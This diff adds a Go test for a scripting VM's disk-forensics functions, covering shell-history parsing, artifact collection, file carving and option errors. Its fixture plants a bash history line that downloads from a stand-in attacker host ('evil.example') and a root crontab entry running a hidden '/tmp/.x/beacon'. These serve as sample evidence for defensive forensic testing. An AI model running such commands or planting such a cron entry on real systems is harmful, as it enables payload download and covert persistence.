@@ -0,0 +1,55 @@
+package vmregister_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"sentra/internal/vmregister"
+)
+
+func TestDiskForensics(t *testing.T) {
+	dir := t.TempDir()
+	root := filepath.Join(dir, "root")
+	for path, data := range map[string]string{
+		"home/alice/.bash_history": "#1772620200\nwget http://evil.example/x\n",
+		"etc/crontab":              "*/10 * * * * root /tmp/.x/beacon\n",
+	} {
+		full := filepath.Join(root, path)
+		os.MkdirAll(filepath.Dir(full), 0o755)
+		if err := os.WriteFile(full, []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	disk := append(make([]byte, 1000), "%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n"...)
+	image := filepath.Join(dir, "disk.img")
+	if err := os.WriteFile(image, append(disk, make([]byte, 1000)...), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	globals := run(t, `
+let commands = forensics_shell_history({"root": "`+root+`"})
+let command = commands[0]["user"] + " " + commands[0]["time"] + " " + commands[0]["data"]["command"]
+let collected = forensics_collect({"root": "`+root+`", "artifacts": ["shell_history", "scheduled_tasks"]})
+let kinds = collected["records"][0]["type"] + " " + collected["records"][1]["type"] + " " + str(len(collected["errors"]))
+let carved = forensics_carve("`+image+`", "`+filepath.Join(dir, "out")+`")
+let pdf = carved[0]["type"] + " " + str(carved[0]["offset"]) + " " + str(len(carved))
+`)
+	if got, want := vmregister.ToString(globals["command"]), "alice 2026-03-04T10:30:00Z wget http://evil.example/x"; got != want {
+		t.Errorf("command = %q, want %q", got, want)
+	}
+	if got, want := vmregister.ToString(globals["kinds"]), "command scheduled 0"; got != want {
+		t.Errorf("kinds = %q, want %q", got, want)
+	}
+	if got, want := vmregister.ToString(globals["pdf"]), "pdf 1000 1"; got != want {
+		t.Errorf("pdf = %q, want %q", got, want)
+	}
+
+	expectErrors(t, map[string]string{
+		`forensics_carve("` + image + `", "", {"types": ["doc"]})`: "forensics_carve: unknown file type 'doc'",
+		`forensics_carve("` + image + `", "", {"max_files": 0})`:   "forensics_carve: max_files must be a positive number",
+		`forensics_prefetch({"drive": "C:"})`:                      "forensics_prefetch: unknown option 'drive'",
+		`forensics_shimcache({"path": "` + image + `"})`:           "is not a registry hive",
+		`forensics_collect({"artifacts": ["amcache"]})`:            "forensics_collect: unknown artifact 'amcache'",
+		`forensics_browser_history("` + root + `")`:                "forensics_browser_history: options must be a map, got string",
+	})
+}